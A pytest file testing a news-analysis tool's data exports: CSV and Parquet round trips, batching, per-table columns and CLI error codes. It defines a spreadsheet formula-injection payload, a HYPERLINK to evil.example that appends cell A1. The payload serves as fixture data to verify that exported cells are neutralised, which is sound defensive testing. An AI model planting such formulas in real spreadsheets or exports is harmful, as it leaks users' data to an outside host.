"""Exports: every table's columns, CSV and Parquet read back with pyarrow, CSV formula
injection neutralised, streaming in batches, and the coded errors of the command line."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

import presslens.export.writers as writers
from presslens import analyze
from presslens.cli import app
from presslens.export import TABLES, export_analyses, export_store
from presslens.export.writers import neutralise
from presslens.model import (
    Analysis,
    Claim,
    CommentAssessment,
    CommentScores,
    Place,
    Span,
    TechniqueSpan,
)
from presslens.store import open_store
from tests.conftest import ROOT, flattened

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _span(a: Analysis, words: str) -> Span:
    start = a.text.index(words)
    return Span(start=start, end=start + len(words))


def make_doc(n: int) -> Analysis:
    a = analyze(
        flattened(
            f"Bridge {n} reopens in Harbourtown",
            [f"The bridge number {n} reopened in Harbourtown, the council said. "
             f"{HOSTILE} was painted on the railing."],
            [("DanaK", "@everyone -this is a disgrace"), (None, "Good to see it open.")],
        ),
        structure_only=True,
        url=f"https://www.town-news.example.org/bridge-{n}",
        published="2021-06-0" + str(1 + n % 9),
    )  # fmt: skip
    scores = CommentScores(
        offensive=0.7, targeted=0.2, target={}, abuse={"hate": 0.1}, violence=0.0,
        conspiracy=0.0,
    )  # fmt: skip
    return a.model_copy(update={
        "places": [Place(span=_span(a, "Harbourtown"), text="Harbourtown", geonameid=900000 + n,
                         name="Harbour Town", country_code="GB", lat=51.5, lon=-0.1,
                         confidence=0.8, reasons=["only candidate"])],
        "techniques": [TechniqueSpan(id="t1", technique="Loaded_Language",
                                     span=_span(a, HOSTILE), text=HOSTILE, score=0.6)],
        "claims": [Claim(id="k1", span=_span(a, "the council said"), text="the council said",
                         score=0.4, checkworthy=False, evidence=[])],
        "comment_analysis": [CommentAssessment(
            comment_id="c1", flags=["insult"], scores=scores, target_type=None, targets=[],
            narratives=[], link_hosts=[], evidence=[])],
    })  # fmt: skip


DOCS = [make_doc(n) for n in range(3)]


@pytest.fixture
def db(tmp_path: Path) -> str:
    path = tmp_path / "news.db"
    with open_store(path) as store:
        store.write(DOCS)
    return str(path)


def test_export_neutralises_spreadsheet_formulas() -> None:
    assert neutralise("=1+2") == "'=1+2"
    for lead in "+-@\t\r":
        assert neutralise(lead + "x").startswith("'")
    assert neutralise("plain") == "plain"


def test_export_csv_round_trip_with_pyarrow_and_no_formula_cells(db: str, tmp_path: Path) -> None:
    out = tmp_path / "techniques.csv"
    assert export_store(db, "techniques", "csv", out) == 3
    table = pacsv.read_csv(out)
    assert table.column_names == TABLES["techniques"].names
    rows = table.to_pylist()
    assert {r["document_id"] for r in rows} == {d.document.content_hash for d in DOCS}
    assert all(r["outlet"] == "example.org" for r in rows)
    assert all(r["text"] == "'" + HOSTILE for r in rows)  # shown, never evaluated
    # the span still points at the hostile words in the stored text
    doc = DOCS[0]
    first = next(r for r in rows if r["document_id"] == doc.document.content_hash)
    assert doc.text[first["span_start"] : first["span_end"]] == HOSTILE
    with out.open(encoding="utf-8") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or re.match(r"-[^\d]", c)]


def test_export_parquet_round_trip_keeps_types(db: str, tmp_path: Path) -> None:
    out = tmp_path / "places.parquet"
    assert export_store(db, "places", "parquet", out) == 3
    table = pq.read_table(out)
    assert table.column_names == TABLES["places"].names
    schema = {f.name: str(f.type) for f in table.schema}
    assert schema["published"] == "date32[day]" and schema["lat"] == "double"
    assert schema["geonameid"] == "int64" and schema["in_comment"] == "bool"
    rows = sorted(table.to_pylist(), key=lambda r: r["geonameid"])
    assert [r["geonameid"] for r in rows] == [900000, 900001, 900002]
    assert rows[0]["mention"] == "Harbourtown" and rows[0]["name"] == "Harbour Town"
    assert rows[0]["published"].isoformat() == "2021-06-01"
    assert rows[0]["text"] == "Harbourtown"


def test_export_streams_in_batches(
    db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(writers, "BATCH", 2)
    out = tmp_path / "comments.parquet"
    assert export_store(db, "comments", "parquet", out) == 6
    meta = pq.ParquetFile(out).metadata
    assert meta.num_row_groups == 3 and meta.num_rows == 6


def test_export_every_table_has_its_columns_and_jsonl_rows(tmp_path: Path) -> None:
    for name, table in TABLES.items():
        out = io.StringIO()
        n = export_analyses(DOCS[:1], name, "jsonl", stdout=out)
        rows = [json.loads(line) for line in out.getvalue().splitlines()]
        assert len(rows) == n
        for row in rows:
            assert list(row) == table.names, name
        empty = tmp_path / f"{name}.parquet"
        export_analyses([], name, "parquet", empty)
        assert pq.read_table(empty).column_names == table.names


def test_export_comments_flags_and_scores(db: str) -> None:
    out = io.StringIO()
    export_store(db, "comments", "jsonl", stdout=out)
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    first = [r for r in rows if r["comment_id"] == "c1"]
    assert {r["flags"] for r in first} == {"insult"} and {r["offensive"] for r in first} == {0.7}
    assert {r["author"] for r in first} == {"DanaK"}
    assert all(r["text"].startswith("@everyone") for r in first)


def test_export_docs_list_every_column() -> None:
    page = (ROOT / "docs" / "export.md").read_text(encoding="utf-8")
    for name, table in TABLES.items():
        section = page.split(f"### `{name}`", 1)
        assert len(section) == 2, f"docs/export.md has no section for {name}"
        body = section[1].split("\n### ", 1)[0]
        listed = re.findall(r"^\| `(\w+)` \|", body, flags=re.M)
        assert listed == table.names, name


# -- the command line ------------------------------------------------------------------------


def run(*args: str) -> Any:
    return CliRunner().invoke(app, list(args))


def test_export_cli_writes_a_file_and_prints_csv(db: str, tmp_path: Path) -> None:
    out = tmp_path / "claims.parquet"
    r = run("export", "--db", db, "--table", "claims", "--format", "parquet", "-o", str(out))
    assert r.exit_code == 0, r.output
    assert pq.read_table(out).num_rows == 3
    r = run("export", "--db", db, "--table", "documents")
    assert r.exit_code == 0
    assert r.stdout.splitlines()[0] == ",".join(TABLES["documents"].names)
    assert len(r.stdout.splitlines()) == 4


@pytest.mark.parametrize(
    ("args", "code", "exit_code"),
    [
        (["--table", "nope"], "E007", 2),
        (["--table", "places", "--format", "xlsx"], "E007", 2),
        (["--table", "places", "--format", "parquet"], "E113", 2),
        (["--table", "places", "-o", "/no/such/dir/x.csv"], "E087", 2),
        (["--table", "places", "-o", "{tmp}"], "E087", 2),
    ],
)
def test_export_cli_errors_are_coded(
    db: str, tmp_path: Path, args: list[str], code: str, exit_code: int
) -> None:
    r = run("export", "--db", db, *[a.replace("{tmp}", str(tmp_path)) for a in args])
    assert r.exit_code == exit_code, r.output
    assert f"presslens: error: [{code}]" in r.output
    assert "Traceback" not in r.output


def test_export_cli_refuses_a_missing_store(tmp_path: Path) -> None:
    missing = tmp_path / "typo.db"
    r = run("export", "--db", str(missing), "--table", "places")
    assert r.exit_code == 3 and "[E041]" in r.output
    assert not missing.exists()  # nothing created by a typo


def test_export_analyze_format_csv_and_parquet(tmp_path: Path) -> None:
    text = tmp_path / "story.txt"
    text.write_text(
        "Storm closes the coast road\n\nA storm closed the coast road near Lisbon on Friday, "
        "officials said.\n",
        encoding="utf-8",
    )
    r = run("analyze", str(text), "--format", "csv", "--published", "2024-03-01")
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert rows and set(rows[0]) == set(TABLES["findings"].names)
    assert any(row["layer"] == "place" and row["text"] == "Lisbon" for row in rows)
    out = tmp_path / "places.parquet"
    r = run("analyze", str(text), "--format", "parquet", "--table", "places", "-o", str(out))
    assert r.exit_code == 0, r.output
    assert "Lisbon" in pq.read_table(out).column("mention").to_pylist()
    r = run("analyze", str(text), "--format", "parquet")
    assert r.exit_code == 2 and "presslens: error: [E113]" in r.output
    r = run("analyze", str(text), "--format", "csv", "-o", str(tmp_path / "no" / "x.csv"))
    assert r.exit_code == 2 and "presslens: error: [E087]" in r.output
    r = run("analyze", str(text), "--format", "csv", "--table", "nope")
    assert r.exit_code == 2 and "presslens: error: [E007]" in r.output
